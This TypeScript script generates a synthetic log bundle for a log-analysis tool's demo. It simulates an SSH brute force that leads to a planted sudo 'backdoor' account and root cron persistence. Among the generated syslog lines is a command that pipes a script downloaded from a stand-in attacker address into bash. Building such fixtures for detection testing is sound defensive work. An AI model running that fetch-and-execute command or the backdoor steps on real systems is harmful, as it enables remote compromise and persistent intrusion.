// Generates the built-in demo bundle (public/demo) deterministically: `npm run demo`.
// One incident over two days, across hosts (every built-in detector that needs no GeoIP fires; expectations
// in test/detect/demo.test.ts):
// - web01 (Linux): ordinary admin logins, sudo and cron; a scanner; then (day 2, 02:10) an SSH brute force from
//   203.0.113.45 that ends in a login as "deploy", who creates "backdoor", adds it to sudo and installs a cron job;
// - web01's nginx (demo/web.ts): a password-guessing script on POST /api/login (day 2, 01:20) that gets in;
// - DC01 (demo/windows.ts, Windows XML exports): from web01 (10.20.0.10) at 03:05 a password spray, a brute
//   force on svc_sql that succeeds, a new admin account, a service, a scheduled task, the Security log cleared.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { rng } from './rng.ts';
import { RFC3339_AUTH_LOG, writeRfc3339AuthLog } from './demo-rfc3339.ts';
import { windowsDemo } from './demo/windows.ts';
import { webDemo } from './demo/web.ts';

const OUT = join(import.meta.dirname, '../public/demo');
const YEAR = 2026;
const DAY1 = Date.UTC(YEAR, 2, 2);
const ATTACKER = '203.0.113.45';
const SCANNER = '198.51.100.23';
const ADMINS = [{ user: 'alice', ip: '10.20.1.15' }, { user: 'bob', ip: '10.20.1.22' }, { user: 'deploy', ip: '10.20.5.3' }];
const USERNAMES = ['root', 'admin', 'test', 'oracle', 'postgres', 'ubuntu', 'git', 'user', 'guest', 'ftp', 'deploy', 'pi', 'support', 'jenkins'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

const rand = rng(20260302);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)];
const int = (lo: number, hi: number) => lo + Math.floor(rand() * (hi - lo + 1));

function stamp(ms: number): string {
  const d = new Date(ms);
  const day = String(d.getUTCDate()).padStart(2, ' ');
  const hms = d.toISOString().slice(11, 19);
  return `${MONTHS[d.getUTCMonth()]} ${day} ${hms}`;
}

type Line = [number, string];
const auth: Line[] = [];
const sys: Line[] = [];
let pid = 4000;
const log = (into: Line[], ms: number, tag: string, msg: string, withPid = true) =>
  into.push([ms, `${stamp(ms)} web01 ${tag}${withPid ? `[${pid++}]` : ''}: ${msg}`]);

// two days of routine: admin sessions, sudo, cron, system noise
for (let t = DAY1; t < DAY1 + 2 * 86_400_000; t += int(6_000, 20_000)) {
  const r = rand();
  if (r < 0.05) {
    const a = pick(ADMINS);
    const port = int(40000, 65000);
    log(auth, t, 'sshd', `Accepted publickey for ${a.user} from ${a.ip} port ${port} ssh2: ED25519 SHA256:${Math.floor(rand() * 1e12).toString(36)}`);
    log(auth, t + 5, 'sshd', `pam_unix(sshd:session): session opened for user ${a.user}(uid=${1000 + ADMINS.indexOf(a)}) by (uid=0)`);
    if (rand() < 0.5) log(auth, t + 60_000, 'sudo', `   ${a.user} : TTY=pts/0 ; PWD=/home/${a.user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx`, false);
    log(auth, t + int(120_000, 3_600_000), 'sshd', `pam_unix(sshd:session): session closed for user ${a.user}`);
  } else if (r < 0.08) {
    log(auth, t, 'sshd', `Failed password for ${pick(ADMINS).user} from ${pick(ADMINS).ip} port ${int(40000, 65000)} ssh2`);
  } else if (r < 0.5) {
    log(sys, t, 'CRON', `(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)`);
    log(auth, t, 'CRON', 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)');
    log(auth, t + 1000, 'CRON', 'pam_unix(cron:session): session closed for user root');
  } else if (r < 0.8) {
    log(sys, t, 'systemd', pick(['Started Session of user alice.', 'Starting Daily apt upgrade and clean activities...', 'Finished Daily apt upgrade and clean activities.', 'Started Refresh fwupd metadata and update motd.']), false);
  } else {
    log(sys, t, 'kernel', `[UFW BLOCK] IN=eth0 OUT= MAC=00:16:3e:5e:6c:00 SRC=${int(1, 223)}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)} DST=10.20.0.10 LEN=40 TTL=${int(30, 250)} PROTO=TCP SPT=${int(1024, 65000)} DPT=${pick([23, 445, 3389, 8080, 5900])} WINDOW=1024 SYN`, false);
  }
}

// a scanner on day 1 afternoon
for (let i = 0, t = DAY1 + 14 * 3_600_000; i < 400; i++, t += int(2000, 9000)) {
  log(auth, t, 'sshd', `Did not receive identification string from ${SCANNER} port ${int(30000, 60000)}`);
}

// the brute force, day 2 from 02:10, ends with a login as deploy
let t = DAY1 + 86_400_000 + 2 * 3_600_000 + 10 * 60_000;
for (let i = 0; i < 3200; i++) {
  const user = pick(USERNAMES);
  const port = int(30000, 65000);
  const invalid = !['root', 'deploy'].includes(user);
  if (invalid) log(auth, t, 'sshd', `Invalid user ${user} from ${ATTACKER} port ${port}`);
  log(auth, t + 300, 'sshd', `Failed password for ${invalid ? 'invalid user ' : ''}${user} from ${ATTACKER} port ${port} ssh2`);
  if (i % 6 === 5) log(auth, t + 600, 'sshd', `Disconnected from ${invalid ? 'invalid user ' : 'authenticating user '}${user} ${ATTACKER} port ${port} [preauth]`);
  t += int(250, 1100);
}
const port = int(30000, 65000);
log(auth, t, 'sshd', `Accepted password for deploy from ${ATTACKER} port ${port} ssh2`);
log(auth, t + 40, 'sshd', 'pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)');
const steps: [number, string, string, boolean][] = [
  [45_000, 'sudo', '  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/id', false],
  [70_000, 'sudo', '  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash backdoor', false],
  [70_500, 'groupadd', 'new group: name=backdoor, GID=1005', true],
  [70_600, 'useradd', 'new user: name=backdoor, UID=1005, GID=1005, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/1', true],
  [95_000, 'sudo', '  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/sbin/usermod -aG sudo backdoor', false],
  [95_400, 'usermod', "add 'backdoor' to group 'sudo'", true],
  [95_500, 'usermod', "add 'backdoor' to shadow group 'sudo'", true],
  [120_000, 'sudo', '  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/passwd backdoor', false],
  [128_000, 'passwd', 'pam_unix(passwd:chauthtok): password changed for backdoor', true],
  [190_000, 'sudo', '  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/crontab -u root -e', false],
  [400_000, 'sshd', `Received disconnect from ${ATTACKER} port ${port}:11: disconnected by user`, true],
  [400_100, 'sshd', `Disconnected from user deploy ${ATTACKER} port ${port}`, true],
  [900_000, 'sshd', `Accepted password for backdoor from ${ATTACKER} port ${port + 7} ssh2`, true],
  [930_000, 'sudo', 'backdoor : TTY=pts/2 ; PWD=/home/backdoor ; USER=root ; COMMAND=/bin/bash', false],
];
for (const [dt, tag, msg, withPid] of steps) log(auth, t + dt, tag, msg, withPid);
for (let h = 1; h < 20; h++) {
  log(sys, t + h * 3_600_000, 'CRON', '(root) CMD (curl -fsS http://203.0.113.45/u.sh | bash)');
}

const day2 = DAY1 + 86_400_000;
const write = (name: string, lines: Line[]) => {
  lines.sort((a, b) => a[0] - b[0]);
  writeFileSync(join(OUT, name), lines.map((l) => l[1]).join('\n') + '\n');
  return lines.length;
};
mkdirSync(join(OUT, 'var/log/web02'), { recursive: true });
const counts = {
  'var/log/auth.log.1': write('var/log/auth.log.1', auth.filter((l) => l[0] < day2)),
  'var/log/auth.log': write('var/log/auth.log', auth.filter((l) => l[0] >= day2)),
  'var/log/syslog': write('var/log/syslog', sys),
  [RFC3339_AUTH_LOG]: writeRfc3339AuthLog(OUT, DAY1, ATTACKER),
};
// the other hosts draw from their own generators, so the Linux files stay byte-identical to earlier demos
const win = windowsDemo(DAY1, rng(20260303));
mkdirSync(join(OUT, 'DC01'), { recursive: true });
writeFileSync(join(OUT, 'DC01/Security.xml'), win.security);
writeFileSync(join(OUT, 'DC01/System.xml'), win.system);
writeFileSync(join(OUT, 'DC01/Sysmon.xml'), win.sysmon);
mkdirSync(join(OUT, 'var/log/nginx'), { recursive: true });
Object.assign(counts, {
  'DC01/Security.xml': win.counts.security, 'DC01/System.xml': win.counts.system, 'DC01/Sysmon.xml': win.counts.sysmon,
  'var/log/nginx/access.log': write('var/log/nginx/access.log', webDemo(DAY1, rng(20260304))),
});
const lastModified = DAY1 + 2 * 86_400_000;
writeFileSync(join(OUT, 'manifest.json'), JSON.stringify({
  description: 'Logdrop demo bundle: one intrusion across web01 (SSH, nginx) and DC01 (Windows Security, System, Sysmon) (generated by scripts/make-demo.ts)',
  files: Object.keys(counts).map((path) => ({ path, lastModified })),
}, null, 2) + '\n');
console.log(counts);
